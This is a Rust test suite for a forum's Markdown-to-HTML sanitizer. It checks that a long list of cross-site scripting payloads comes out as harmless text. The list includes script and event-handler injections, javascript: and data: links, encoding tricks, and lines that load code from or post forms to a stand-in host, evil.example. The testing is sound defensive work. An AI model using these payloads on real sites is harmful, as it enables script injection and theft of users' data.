use proptest::prelude::*;

use super::*;

/// Every tag that a post may have, with the attributes that it may have.
const TAGS: [(&str, &[&str]); 14] = [
    ("p", &["class"]),
    ("br", &[]),
    ("hr", &[]),
    ("blockquote", &[]),
    ("pre", &["tabindex"]),
    ("code", &[]),
    ("ul", &[]),
    ("ol", &["start"]),
    ("li", &[]),
    ("em", &[]),
    ("strong", &[]),
    ("a", &["href", "rel"]),
    ("i", &[]),
    ("b", &[]),
];

/// Reads HTML as strictly as it can be read: every `<` opens a tag of the list, every attribute stands in double quotes, every
/// tag that is opened is closed in its turn. Says what breaks that.
fn judge(html: &str) -> Result<(), String> {
    let mut open: Vec<String> = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find(['<', '>']) {
        let (inside, after) = match rest[at..].strip_prefix('<').and_then(|tag| tag.split_once('>')) {
            Some(tag) => tag,
            None => return Err(format!("a sign that stands alone: {}", &rest[at..])),
        };
        rest = after;
        if let Some(name) = inside.strip_prefix('/') {
            match open.pop() {
                Some(opened) if opened == name => continue,
                opened => return Err(format!("</{name}> closes {opened:?}")),
            }
        }
        let (name, attributes) = inside.split_once(' ').unwrap_or((inside, ""));
        let (_, allowed) = TAGS.iter().find(|(tag, _)| *tag == name).ok_or_else(|| format!("<{name}>"))?;
        let mut attributes = attributes;
        while !attributes.is_empty() {
            let (key, value) = attributes.split_once("=\"").ok_or_else(|| format!("`{attributes}`"))?;
            let (value, more) = value.split_once('"').ok_or_else(|| format!("`{attributes}`"))?;
            if !allowed.contains(&key) {
                return Err(format!("<{name} {key}>"));
            }
            let is_address = SCHEMES.iter().any(|scheme| value.to_ascii_lowercase().starts_with(scheme));
            if key == "href" && (!is_address || value.contains(['<', '>', '\'', '\\']) || !value.is_ascii()) {
                return Err(format!("href {value}"));
            }
            attributes = more.trim_start();
        }
        if !matches!(name, "br" | "hr") {
            open.push(name.to_owned());
        }
    }
    if open.is_empty() { Ok(()) } else { Err(format!("left open: {open:?}")) }
}

/// Ways to make a page run code, by what they rely on.
const ATTACKS: &[(&str, &[&str])] = &[
    (
        "tags",
        &[
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js></sCrIpT>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(1)>",
            "<svg><script>alert&#40;1)</script></svg>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<object data=javascript:alert(1)></object>",
            "<embed src=data:text/html;base64,PHNjcmlwdD4=>",
            "<math><mi//xlink:href=\"javascript:alert(1)\">x",
            "<body onload=alert(1)>",
            "<style>@import'//evil.example/x.css'</style>",
            "<base href=//evil.example/>",
            "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
            "<form action=//evil.example><input name=p></form>",
            "<video><source onerror=alert(1)></video>",
            "<details open ontoggle=alert(1)>",
            "<a href=javascript:alert(1)>x</a>",
            "<b onmouseover=alert(1)>x</b>",
        ],
    ),
    (
        "broken tags",
        &[
            "<script",
            "<<script>alert(1)//<</script>",
            "<img \"\"\"><script>alert(1)</script>\">",
            "<scr\0ipt>alert(1)</scr\0ipt>",
            "<!--><script>alert(1)</script>-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?xml version=\"1.0\"?><script>alert(1)</script>",
            "</p><script>alert(1)</script><p>",
            "`</code><script>alert(1)</script>`",
            "```\n</code></pre><script>alert(1)</script>\n```",
            "``` \"><script>alert(1)</script>\nx\n```",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        ],
    ),
    (
        "addresses",
        &[
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](java\tscript:alert(1))",
            "[x](java\nscript:alert(1))",
            "[x](<java\u{1}script:alert(1)>)",
            "[x](&#106;avascript:alert(1))",
            "[x](&#x6A;&#x61;vascript&colon;alert(1))",
            "[x](javascript&colon;alert(1))",
            "[x](%6aavascript:alert(1))",
            "[x]( javascript:alert(1))",
            "[x](vbscript:msgbox(1))",
            "[x](data:text/html,<script>alert(1)</script>)",
            "[x](//evil.example)",
            "[x](\\\\evil.example)",
            "[x](file:///etc/passwd)",
            "[x](blob:https://evil.example/1)",
            "<javascript:alert(1)>",
            "<data:text/html;base64,PHNjcmlwdD4=>",
            "[x]: javascript:alert(1)\n[x]",
            "[x][y]\n\n[y]: <javascript:alert(1)> 'x'",
            "![x](javascript:alert(1))",
            "![x](https://evil.example/pixel.png)",
            "![\"onerror=alert(1) x=\"](x)",
        ],
    ),
    (
        "quotes of attributes",
        &[
            "[x](https://a.example/\"onmouseover=alert(1)//)",
            "[x](https://a.example/'onmouseover='alert(1))",
            "[x](<https://a.example/ onmouseover=alert(1)>)",
            "[x](https://a.example \"title\" onmouseover=alert(1))",
            "[x](https://a.example 't\"><script>alert(1)</script>')",
            "<https://a.example/\"><script>alert(1)</script>>",
            "https://a.example/\"onmouseover=alert(1)",
            "https://a.example/'><script>alert(1)</script>",
            "https://a.example/&quot;onmouseover=alert(1)",
            "http://javascript:alert(1)",
            "1) https://a.example/`x` \n[a](https://b.example/`x)",
        ],
    ),
    (
        "entities and encodings",
        &[
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;script&#62;alert(1)",
            "\u{ff1c}script\u{ff1e}alert(1)",
            "+ADw-script+AD4-alert(1)",
            "\u{202e}<script>\u{202c}",
            "&#0;<script>",
            "&#xD800;<script>",
        ],
    ),
];

#[test]
fn no_known_attack_gets_through() {
    for (class, attacks) in ATTACKS {
        for attack in *attacks {
            for around in [
                ("", ""),
                ("> ", ""),
                ("- ", "\n\n  x"),
                ("**", "**"),
                ("[a ", "](https://a.example)"),
                ("x\n\n    ", ""),
            ] {
                let text = format!("{}{attack}{}", around.0, around.1);
                let html = html(&text);
                judge(&html).unwrap_or_else(|wrong| panic!("{class}: {text:?}: {wrong} in {html}"));
            }
        }
    }
}

#[test]
fn the_judge_finds_what_it_is_for() {
    for wrong in [
        "<script>x</script>",
        "<p onclick=\"x\">y</p>",
        "<a href=\"javascript:x\">y</a>",
        "<a href=\"https://a.example\" onclick=\"x\">y</a>",
        "<a href='x'>y</a>",
        "<p>",
        "<p></em>",
        "a < b",
        "a > b",
        "<img src=\"https://a.example\">",
    ] {
        assert!(judge(wrong).is_err(), "{wrong}");
    }
    assert_eq!(judge("<p>a &lt; b<br></p>"), Ok(()));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]

    #[test]
    fn whatever_is_typed_stays_text(pieces in prop::collection::vec(piece(), 0..24)) {
        let text = pieces.concat();
        let html = html(&text);
        prop_assert_eq!(judge(&html), Ok(()), "{:?} became {}", text, html);
    }

    #[test]
    fn any_text_at_all_stays_text(text in "\\PC{0,300}") {
        prop_assert_eq!(judge(&html(&text)), Ok(()));
    }
}

/// Signs of the dialect, pieces of attacks and words, in any order.
fn piece() -> impl Strategy<Value = String> {
    let attacks: Vec<String> =
        ATTACKS.iter().flat_map(|(_, attacks)| attacks.iter().map(|attack| (*attack).to_owned())).collect();
    prop_oneof![
        prop::sample::select(attacks),
        "[\\[\\]()<>!*_`#&;:\"'=/\\\\ \n\t-]{1,6}",
        prop::sample::select(vec![
            "javascript:",
            "https://",
            "mailto:",
            "on",
            "&#106;",
            "> ",
            "1. ",
            "    ",
            "```",
            "word"
        ])
        .prop_map(str::to_owned),
    ]
}

#[test]
fn what_people_write_is_shown_as_they_mean_it() {
    for (text, expected) in [
        ("Bonjour\ntoi", "<p>Bonjour<br>toi</p>\n"),
        ("# Plan", "<p class=\"post-heading\"><strong>Plan</strong></p>\n"),
        ("- *a*\n- **b**", "<ul>\n<li><em>a</em></li>\n<li><strong>b</strong></li>\n</ul>\n"),
        ("3. a", "<ol start=\"3\">\n<li>a</li>\n</ol>\n"),
        ("> so", "<blockquote>\n<p>so</p>\n</blockquote>\n"),
        ("a <b> & `<i>`", "<p>a &lt;b&gt; &amp; <code>&lt;i&gt;</code></p>\n"),
        ("![a map](https://x.example/m.png)", "<p>a map</p>\n"),
        ("[x](javascript:y)", "<p>x</p>\n"),
        (
            "See https://a.example/b_c_d?e=1&f=é, then",
            "<p>See <a href=\"https://a.example/b_c_d?e=1&amp;f=%C3%A9\" rel=\"nofollow noopener noreferrer ugc\">https://a.example/b_c_d?e=1&amp;f=é</a>, then</p>\n",
        ),
        (
            "[it](https://a.example/x)",
            "<p><a href=\"https://a.example/x\" rel=\"nofollow noopener noreferrer ugc\">it</a></p>\n",
        ),
        ("`https://a.example`", "<p><code>https://a.example</code></p>\n"),
        ("http:// alone, xhttp", "<p>http:// alone, xhttp</p>\n"),
    ] {
        assert_eq!(html(text), expected);
    }
}

#[test]
fn tangles_are_shown_as_they_were_typed() {
    for bomb in [
        "[".repeat(5_000),
        "*a_".repeat(1_500),
        "`".repeat(1_500) + "a",
        "<![CDATA[".repeat(700),
        ">".repeat(200) + " a",
        "- ".repeat(100) + "a",
        "&amp;".repeat(1_500),
    ] {
        assert!(is_tangled(&bomb), "{bomb}");
        assert_eq!(judge(&html(&bomb)), Ok(()));
    }
    let deep = format!("{}a", "> ".repeat(18));
    assert!(!is_tangled(&deep));
    let shown = html(&deep);
    assert_eq!(judge(&shown), Ok(()));
    assert_eq!(shown.matches("<blockquote>").count(), MOST_DEPTH);
    assert!(!is_tangled(&"-".repeat(80)), "a line across the page is none");
    assert_eq!(html(&(">".repeat(200) + " a\nb\n\nc")).matches("<p>").count(), 2);
}

#[test]
fn a_quote_is_the_words_of_the_one_who_is_answered() {
    assert_eq!(quoted("One\n\ntwo", 100), "> One\n>\n> two\n\n");
    assert_eq!(quoted("> before\n\nafter", 100), "> after\n\n");
    assert_eq!(quoted("abcdef", 3), "> abc…\n\n");
    assert_eq!(quoted("> only a quote", 100), "");
}

#[test]
fn names_are_links_only_where_somebody_is_named() {
    let naming = |form: &str| (form == "amina-diallo").then(|| "/m/1".to_owned());
    let link = "<a class=\"post-name\" href=\"/m/1\">@Amina-Diallo</a>";
    let shown = html_naming("Ask @Amina-Diallo, *@nobody* or a@amina-diallo.", &naming);
    assert_eq!(shown, format!("<p>Ask {link}, <em>@nobody</em> or a@amina-diallo.</p>\n"));
    let code = "`@amina-diallo` [@amina-diallo](https://example.org)";
    assert!(!html_naming(code, &naming).contains("post-name"));
    assert_eq!(forms("> @amina-diallo\n\n@Zoé-Roy- `@x` @zoe-roy @@y https://e.org/@z"), ["zoe-roy"]);
    assert_eq!(html("@amina-diallo"), "<p>@amina-diallo</p>\n");
}
